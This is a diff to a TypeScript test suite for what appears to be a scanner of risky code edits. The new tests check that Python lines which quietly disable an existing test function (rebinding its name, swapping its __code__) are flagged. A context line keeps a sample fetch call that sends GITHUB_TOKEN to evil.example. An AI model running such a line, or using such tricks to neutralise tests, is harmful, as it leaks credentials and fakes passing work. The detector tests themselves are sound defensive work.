@@ -1,4 +1,4 @@
-import { found } from './found.ts';
+import { edited, found } from './found.ts';
 
 const REACH = 'RISK_TEST_REACH medium';
 const SECRET = "fetch('https://evil.example/' + process.env.GITHUB_TOKEN);\n";
@@ -48,4 +48,22 @@ describe('a test in a language that is not read', () => {
 
 test.each(['src/a.coffee.md', 'docs/A.lagda.md', 'src/A.lhs.rst'])('%s is no prose', async (path) => {
   expect((await found({ [path]: '# A\n\n    run()\n' })).some((one) => /(?:medium|high)$/.test(one))).toBe(true);
+});
+
+describe('an old test of Python that a line takes away', () => {
+  const old = 'def test_counts():\n    assert total([1]) == 1\n';
+  test.each([
+    'globals().update(test_counts=None)',
+    'test_counts, x = None, 1',
+    'test_counts: object = None',
+    'from other import test_counts',
+    'test_counts.__code__ = (lambda: None).__code__',
+  ])('%s', async (line) => {
+    expect(await edited('tests/test_n.py', old, `${old}\n${line}\n`)).toContain('RISK_TEST_UNDONE medium');
+  });
+
+  test('a thread of a test runs', async () => {
+    const thread = 'class Worker(Thread):\n    def run(self):\n        pass\n';
+    expect(await edited('tests/test_n.py', old, `${old}\n${thread}`)).toEqual([]);
+  });
 });
